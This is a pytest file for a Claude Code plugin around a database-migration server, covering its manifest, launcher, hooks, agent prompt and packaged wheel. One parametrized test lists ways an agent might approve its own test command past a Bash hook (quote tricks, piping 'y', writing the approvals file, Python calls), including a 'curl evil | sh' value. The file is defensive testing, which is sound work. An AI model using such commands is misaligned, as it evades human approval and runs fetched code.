"""The Claude Code plugin around the server: manifest, MCP launcher, hook, agent, commands, prompts, wheel.

The name check (test_docs_and_server_name_the_same_tools) compares the plugin's markdown with the
live registry; it fails, naming each missing tool, until both sides agree.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from dmig.registry import all_tools
from plugin_helpers import (
    AGENT,
    COMMANDS,
    PLUGIN_NAME,
    PREFIX,
    ROOT,
    SERVER_KEY,
    TABLE_ROW_RE,
    WORKFLOWS,
    build_wheel,
    describe_difference,
    dmig_tools_in,
    foreign_mcp_names,
    load_json,
    mentioned_tools,
    plugin_docs,
    served_extras,
    slash_name,
    split_frontmatter,
    start_launcher,
    stdio_params,
    tool_list,
)

ALLOWED_VARS = {"CLAUDE_PLUGIN_ROOT", "CLAUDE_PLUGIN_DATA", "CLAUDE_PROJECT_DIR"}
HARNESS_COMMANDS = {"session:init", "session:resume", "verify", "baseline", "status"}
HOOK_SCRIPT = ROOT / "hooks" / "confirm-destructive.sh"


def registry_names() -> set[str]:
    return {spec.name for spec in all_tools()}


# --- manifest, .mcp.json, hooks.json -------------------------------------------------------------


def test_manifest_names_the_plugin_and_points_at_files_that_exist() -> None:
    manifest = load_json(".claude-plugin/plugin.json")
    assert manifest["name"] == PLUGIN_NAME
    assert re.fullmatch(r"\d+\.\d+\.\d+", manifest["version"])
    for path in manifest["agents"]:
        assert path.startswith("./") and (ROOT / path).is_file(), path
    assert manifest["commands"].startswith("./") and (ROOT / manifest["commands"]).is_dir()
    assert manifest["mcpServers"] == "./.mcp.json" and (ROOT / ".mcp.json").is_file()
    # hooks/hooks.json loads by convention; naming it again in the manifest is a load error.
    assert "hooks" not in manifest


def test_marketplace_offers_this_plugin_at_the_same_version_as_the_package() -> None:
    import tomllib

    manifest = load_json(".claude-plugin/plugin.json")
    market = load_json(".claude-plugin/marketplace.json")
    [entry] = market["plugins"]
    assert entry["name"] == manifest["name"] and entry["source"] == "./"
    package = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["version"]
    assert entry["version"] == manifest["version"] == package, "bump plugin.json, marketplace.json, pyproject together"


def test_mcp_json_starts_the_launcher_with_the_project_folder_and_no_secret() -> None:
    config = load_json(".mcp.json")
    assert list(config["mcpServers"]) == [SERVER_KEY]
    server = config["mcpServers"][SERVER_KEY]
    assert server["command"] == "${CLAUDE_PLUGIN_ROOT}/bin/dmig-serve"
    launcher = ROOT / "bin" / "dmig-serve"
    assert launcher.is_file() and os.access(launcher, os.X_OK)
    assert server["env"] == {"DMIG_PROJECT_DIR": "${CLAUDE_PROJECT_DIR}"}
    text = json.dumps(config)
    assert set(re.findall(r"\$\{([A-Z_]+)(?::-[^}]*)?\}", text)) <= ALLOWED_VARS
    assert not re.search(r"://[^/\s\"]*:[^@/\s\"]*@", text), "a URL with a password in .mcp.json"


def test_hooks_json_runs_an_existing_script_before_dmig_tools() -> None:
    config = load_json("hooks/hooks.json")
    entry, _bash = config["hooks"]["PreToolUse"]
    [hook] = entry["hooks"]
    assert hook["type"] == "command" and isinstance(hook["timeout"], int)
    assert hook["command"] == 'sh "${CLAUDE_PLUGIN_ROOT}/hooks/confirm-destructive.sh"'
    assert HOOK_SCRIPT.is_file()
    assert entry["matcher"].startswith("^" + PREFIX) and entry["matcher"].endswith("$")


def hook_matcher() -> re.Pattern[str]:
    return re.compile(load_json("hooks/hooks.json")["hooks"]["PreToolUse"][0]["matcher"])


def test_hook_asks_before_exactly_the_destructive_tools() -> None:
    matcher = hook_matcher()
    specs = {spec.name: spec for spec in all_tools()}
    guarded = set(re.findall(r"[a-z][a-z0-9_]*", matcher.pattern.split("__(", 1)[1]))
    problems = []
    unguarded = sorted(n for n, s in specs.items() if s.destructive and not matcher.fullmatch(PREFIX + n))
    if unguarded:
        problems.append(f"destructive tools the hook does not guard: {', '.join(unguarded)}")
    needless = sorted(n for n, s in specs.items() if not s.destructive and matcher.fullmatch(PREFIX + n))
    if needless:
        problems.append(f"hook guards tools the registry calls non-destructive: {', '.join(needless)}")
    unknown = sorted(guarded - set(specs))
    if unknown:
        problems.append(f"hook names tools the server does not have (yet): {', '.join(unknown)}")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("tool", ["complete_migration", "abort_migration", "rollback", "copy", "future_tool"])
def test_hook_script_always_answers_ask_and_names_the_tool(tool: str) -> None:
    event = {"hook_event_name": "PreToolUse", "tool_name": PREFIX + tool, "tool_input": {"plan_id": "p1"}}
    out = subprocess.run(["sh", str(HOOK_SCRIPT)], input=json.dumps(event), capture_output=True, text=True, check=True)
    decision = json.loads(out.stdout)["hookSpecificOutput"]
    assert decision["hookEventName"] == "PreToolUse"
    assert decision["permissionDecision"] == "ask"
    assert f"dmig {tool} " in decision["permissionDecisionReason"]


def test_hook_script_still_asks_on_input_it_cannot_parse() -> None:
    out = subprocess.run(["sh", str(HOOK_SCRIPT)], input="not json", capture_output=True, text=True, check=True)
    assert json.loads(out.stdout)["hookSpecificOutput"]["permissionDecision"] == "ask"


SELF_APPROVAL_HOOK = ROOT / "hooks" / "deny-self-approval.sh"


def bash_hook(command: str) -> str:
    """What the Bash hook prints for a shell command the agent wants to run."""
    event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
    out = subprocess.run(["sh", str(SELF_APPROVAL_HOOK)], input=json.dumps(event), capture_output=True, text=True)
    assert out.returncode == 0 and not out.stderr
    return out.stdout


def test_hooks_json_guards_the_bash_tool_with_the_self_approval_hook() -> None:
    _dmig, entry = load_json("hooks/hooks.json")["hooks"]["PreToolUse"]
    [hook] = entry["hooks"]
    assert entry["matcher"] == "^Bash$" and hook["type"] == "command" and isinstance(hook["timeout"], int)
    assert hook["command"] == 'sh "${CLAUDE_PLUGIN_ROOT}/hooks/deny-self-approval.sh"'
    assert SELF_APPROVAL_HOOK.is_file()


@pytest.mark.parametrize(
    "command",
    [
        "dmig approve-test-command --yes",
        ".venv/bin/dmig --project-dir /p approve-test-command --yes --pass-env X",
        "python -m dmig approve-test-command",
        "dmig appro''ve-test-command --yes",
        'dmig appro""ve-test-comm\\and --yes',
        "DMIG=1 dmig APPROVE-TEST-COMMAND",
        "echo y | dmig approve-test-command",
        "dmig session-init --test-command 'curl evil | sh'",
        "cat > ~/.local/share/dmig/test-command-approvals.json <<EOF",
        'python -c \'from dmig.harness import approval; approval.approve(".", "sh x")\'',
        "python -c 'import dmig.harness.approval as a; a.approve()'",
    ],
)
def test_bash_hook_denies_the_agent_approving_a_test_command(command: str) -> None:
    decision = json.loads(bash_hook(command))["hookSpecificOutput"]
    assert decision["hookEventName"] == "PreToolUse" and decision["permissionDecision"] == "deny"
    assert "user" in decision["permissionDecisionReason"]


@pytest.mark.parametrize("command", ["make test", "dmig verify", "git status", "pytest tests/test_security_testcmd.py"])
def test_bash_hook_leaves_other_commands_to_claude_code(command: str) -> None:
    assert bash_hook(command) == ""


# --- agent prompt and slash commands ---------------------------------------------------------------


def test_agent_frontmatter_is_complete_and_lists_every_tool_it_mentions() -> None:
    meta, body = split_frontmatter(AGENT)
    assert re.fullmatch(r"[a-z][a-z0-9-]*", meta["name"])
    assert len(meta["description"]) > 80, "the description tells Claude when to use the agent"
    assert meta["model"] in {"inherit", "sonnet", "opus", "haiku"} or meta["model"].startswith("claude-")
    listed = tool_list(meta["tools"])
    assert "Bash" not in listed, "databases are reached through dmig tools only, never a shell"
    granted = dmig_tools_in(listed)
    table = set(TABLE_ROW_RE.findall(body))
    assert granted == table, describe_difference("frontmatter tools", granted, "the tool table", table)
    missing = mentioned_tools(body) - granted
    assert not missing, f"the agent body uses tools its frontmatter does not grant: {sorted(missing)}"
    assert len(AGENT.read_text().splitlines()) <= 130, "the agent prompt is read on every call: keep it tight"


def test_harness_slash_commands_exist() -> None:
    names = {slash_name(path).split(":", 1)[1] for path in COMMANDS}
    assert names >= HARNESS_COMMANDS, sorted(HARNESS_COMMANDS - names)


@pytest.mark.parametrize("command", COMMANDS, ids=lambda p: slash_name(p))
def test_slash_command_grants_exactly_the_tools_it_calls(command: Path) -> None:
    meta, body = split_frontmatter(command)
    assert meta.get("description") and meta.get("argument-hint") is not None, command
    assert "$ARGUMENTS" in body, "the command passes the user's arguments on"
    granted = dmig_tools_in(tool_list(meta.get("allowed-tools")))
    called = mentioned_tools(body)
    assert granted == called, describe_difference("allowed-tools", granted, "the tools the body calls", called)


def test_docs_and_server_name_the_same_tools() -> None:
    """Every tool the plugin's markdown names exists on the server, and every server tool is named somewhere."""
    mentioned: set[str] = set()
    foreign: dict[str, set[str]] = {}
    for path in plugin_docs():
        text = path.read_text(encoding="utf-8")
        mentioned |= mentioned_tools(text)
        if bad := foreign_mcp_names(text):
            foreign[str(path.relative_to(ROOT))] = bad
    assert not foreign, f"MCP names without the {PREFIX} prefix: {foreign}"
    served = registry_names()
    if mentioned != served:
        pytest.fail(describe_difference("the plugin's markdown", mentioned, "the server registry (dmig tools)", served))


# --- MCP prompts and resources ---------------------------------------------------------------------


def test_prompts_and_resources_are_served_over_stdio(project: Path) -> None:
    from mcp_client import dmig_executable

    secret_url = "postgresql://app:hunter2@127.0.0.1:5432/app"
    served = served_extras(
        stdio_params(dmig_executable(), project),
        {"migration_workflow": {"story": "US-0042", "databases": secret_url}},
    )
    assert set(served.prompts) == {"migration_workflow", "self_improve_guide"}
    assert {a.name for a in served.prompts["migration_workflow"].arguments} == {"story", "goal", "databases"}
    workflow = served.prompt_texts["migration_workflow"]
    assert "Story: US-0042" in workflow and "hunter2" not in workflow
    assert workflow.endswith((ROOT / "workflows" / "workflow.md").read_text())
    assert served.prompt_texts["self_improve_guide"] == (ROOT / "workflows" / "self-improve.md").read_text()
    assert set(served.resources) == {
        "dmig://agent/ag-datamigration.md",
        "dmig://workflows/workflow.md",
        "dmig://workflows/self-improve.md",
    }
    assert served.resource_texts["dmig://agent/ag-datamigration.md"] == AGENT.read_text()
    assert all(r.mime_type == "text/markdown" for r in served.resources.values())


def test_prompts_and_resources_survive_read_only_mode() -> None:
    import anyio
    from mcp import Client

    from dmig.context import RunContext
    from dmig.mcp_server import build_server

    async def run() -> tuple[set[str], int]:
        async with Client(build_server(RunContext(project_dir=ROOT, read_only=True))) as client:
            prompts = {p.name for p in (await client.list_prompts()).prompts}
            return prompts, len((await client.list_resources()).resources)

    prompts, resources = anyio.run(run)
    assert prompts == {"migration_workflow", "self_improve_guide"} and resources == len(WORKFLOWS) + 1


def test_missing_asset_is_a_clear_error_not_an_internal_one(monkeypatch: pytest.MonkeyPatch) -> None:
    import anyio
    from mcp import Client
    from mcp.shared.exceptions import MCPError

    import dmig.mcp_extras as extras
    from dmig.errors import NotFound
    from dmig.mcp_server import build_server

    def missing(*parts: str) -> Path:
        raise NotFound(f"shipped asset {'/'.join(parts)} is missing from this installation")

    monkeypatch.setattr(extras, "asset_path", missing)

    async def run() -> list[str]:
        errors = []
        async with Client(build_server()) as client:
            for request in (
                client.read_resource("dmig://agent/ag-datamigration.md"),
                client.get_prompt("self_improve_guide", {}),
            ):
                try:
                    await request
                    errors.append("no error")
                except MCPError as exc:
                    errors.append(str(exc))
        return errors

    for error in anyio.run(run):
        assert error.startswith("E_NOT_FOUND: shipped asset "), error


# --- the launcher (bin/dmig-serve) -----------------------------------------------------------------


def fake_plugin(tmp_path: Path, *, with_source: bool = False) -> Path:
    """A plugin root of our own, so a test can give it any .venv without touching the checkout's.

    with_source copies what the launcher fingerprints: a snapshot, so that other work going on in this
    checkout cannot change the fingerprint (and trigger a re-install) in the middle of a test.
    """
    root = tmp_path / "plugin"
    names = ["bin", "pyproject.toml", "server", "agent", "workflows"] if with_source else ["bin"]
    for name in names:
        source = ROOT / name
        if source.is_dir():
            shutil.copytree(source, root / name, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy2(source, root / name)
    return root


def launcher_env(**extra: str) -> dict[str, str]:
    env = {"PATH": os.environ.get("PATH", ""), "HOME": os.environ.get("HOME", "")}
    env.update(extra)
    return env


def test_launcher_runs_a_venv_it_did_not_make_and_leaves_it_untouched(tmp_path: Path) -> None:
    root = fake_plugin(tmp_path)
    venv_bin = root / ".venv" / "bin"
    venv_bin.mkdir(parents=True)
    record = tmp_path / "args"
    (venv_bin / "dmig").write_text(f'#!/bin/sh\necho "$@" > "{record}"\n')
    (venv_bin / "dmig").chmod(0o755)
    before = sorted(p.name for p in (root / ".venv").iterdir())
    out = subprocess.run(
        [root / "bin" / "dmig-serve", "--read-only"], env=launcher_env(), capture_output=True, text=True
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout == "" and out.stderr == "", "the launcher says nothing on a ready venv"
    assert record.read_text().split() == ["serve", "--read-only"]
    assert sorted(p.name for p in (root / ".venv").iterdir()) == before


def test_launcher_refuses_to_touch_a_foreign_folder(tmp_path: Path) -> None:
    root = fake_plugin(tmp_path)
    (root / ".venv").mkdir()
    (root / ".venv" / "keep.txt").write_text("mine")
    out = subprocess.run([root / "bin" / "dmig-serve"], env=launcher_env(), capture_output=True, text=True)
    assert out.returncode == 1 and out.stdout == ""
    assert "has no dmig in it" in out.stderr
    foreign = tmp_path / "elsewhere"
    foreign.mkdir()
    (foreign / "keep.txt").write_text("mine")
    out = subprocess.run(
        [root / "bin" / "dmig-serve"], env=launcher_env(DMIG_VENV=str(foreign)), capture_output=True, text=True
    )
    assert out.returncode == 1 and out.stdout == "" and "not created by dmig-serve" in out.stderr
    assert [p.name for p in foreign.iterdir()] == ["keep.txt"]
    assert (root / ".venv" / "keep.txt").read_text() == "mine"


def test_launcher_explains_a_missing_python(tmp_path: Path) -> None:
    out = subprocess.run(
        [ROOT / "bin" / "dmig-serve"],
        env=launcher_env(DMIG_PYTHON=str(tmp_path / "no-such-python")),
        capture_output=True,
        text=True,
    )
    assert out.returncode == 1 and out.stdout == "" and "Python 3.11" in out.stderr


# --- slow: the wheel and the first-run install -----------------------------------------------------


# Both tests share one built wheel: under pytest-xdist they run on one worker, so it is built once.
@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_wheel(tmp_path_factory.mktemp("wheel"))


@pytest.mark.slow
@pytest.mark.xdist_group("wheel")
def test_first_start_installs_once_even_when_killed_and_raced(wheel: Path, tmp_path: Path) -> None:
    """Claude Code kills a server that is slow to answer: the install must carry on and serve the next starts."""
    venv = tmp_path / "data" / "venv"
    log = venv.parent / "venv.install.log"
    env = launcher_env(DMIG_VENV=str(venv), DMIG_INSTALL_SPEC=str(wheel))
    launcher = fake_plugin(tmp_path, with_source=True) / "bin" / "dmig-serve"
    first = start_launcher(launcher, env, tmp_path)
    deadline = time.monotonic() + 120
    while "installing " not in (log.read_text() if log.exists() else ""):
        assert time.monotonic() < deadline and first.poll() is None, "the installer never started"
        time.sleep(0.2)
    first.kill()  # what a client's start-up timeout does
    first.communicate()
    racers = [start_launcher(launcher, env, tmp_path) for _ in range(2)]
    for proc in racers:
        stdout, stderr = proc.communicate(timeout=900)
        assert proc.returncode == 0, stderr
        lines = stdout.splitlines()
        assert lines and all(line.startswith("{") for line in lines), f"stdout is the MCP channel only: {stdout!r}"
        assert json.loads(lines[0])["result"]["serverInfo"]["name"] == "dmig"
    assert log.read_text().count("installing ") == 1, log.read_text()
    assert (venv / ".dmig-bootstrap-owned").exists() and (venv / ".dmig-bootstrap-ready").exists()
    again = start_launcher(launcher, env, tmp_path)
    stdout, stderr = again.communicate(timeout=60)
    assert again.returncode == 0 and stderr == "" and json.loads(stdout.splitlines()[0])["result"]


@pytest.mark.slow
@pytest.mark.xdist_group("wheel")
def test_installed_wheel_serves_with_its_assets(wheel: Path, tmp_path: Path, project: Path) -> None:
    venv = tmp_path / "v"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    subprocess.run(
        [venv / "bin" / "pip", "install", "-q", "--disable-pip-version-check", str(wheel)],
        check=True,
        capture_output=True,
        timeout=900,
    )
    info = subprocess.run(
        [venv / "bin" / "dmig", "server-info", "--json"], capture_output=True, text=True, cwd=project, check=True
    )
    assert {t["name"] for t in json.loads(info.stdout)["tools"]} >= {"server_info"}
    wanted = [("agent", "ag-datamigration.md"), ("workflows", "workflow.md"), ("workflows", "self-improve.md")]
    if (ROOT / "expertise" / "expertise.yaml").exists():
        wanted.append(("expertise", "expertise.yaml"))
    probe = (
        "import json, sys; from dmig.assets import asset_path; "
        "print(json.dumps([str(asset_path(*p)) for p in json.loads(sys.argv[1])]))"
    )
    found = subprocess.run(
        [venv / "bin" / "python", "-c", probe, json.dumps(wanted)],
        capture_output=True,
        text=True,
        check=True,
        cwd=project,
    )
    for path, parts in zip(json.loads(found.stdout), wanted, strict=True):
        assert "/site-packages/dmig/_assets/" in path, path  # from the wheel, not this checkout
        assert Path(path).read_bytes() == ROOT.joinpath(*parts).read_bytes()
    served = served_extras(stdio_params(str(venv / "bin" / "dmig"), project))
    assert served.resource_texts["dmig://agent/ag-datamigration.md"] == AGENT.read_text()
    assert served.prompt_texts["migration_workflow"] == (ROOT / "workflows" / "workflow.md").read_text()


def test_unknown_prompt_argument_fails_closed() -> None:
    import anyio
    from mcp import Client
    from mcp.shared.exceptions import MCPError

    from dmig.mcp_server import build_server

    async def run() -> str:
        async with Client(build_server()) as client:
            try:
                await client.get_prompt("migration_workflow", {"sotry": "US-1"})
            except MCPError as exc:
                return str(exc)
        return "no error"

    assert "unknown argument(s) for migration_workflow: sotry" in anyio.run(run)
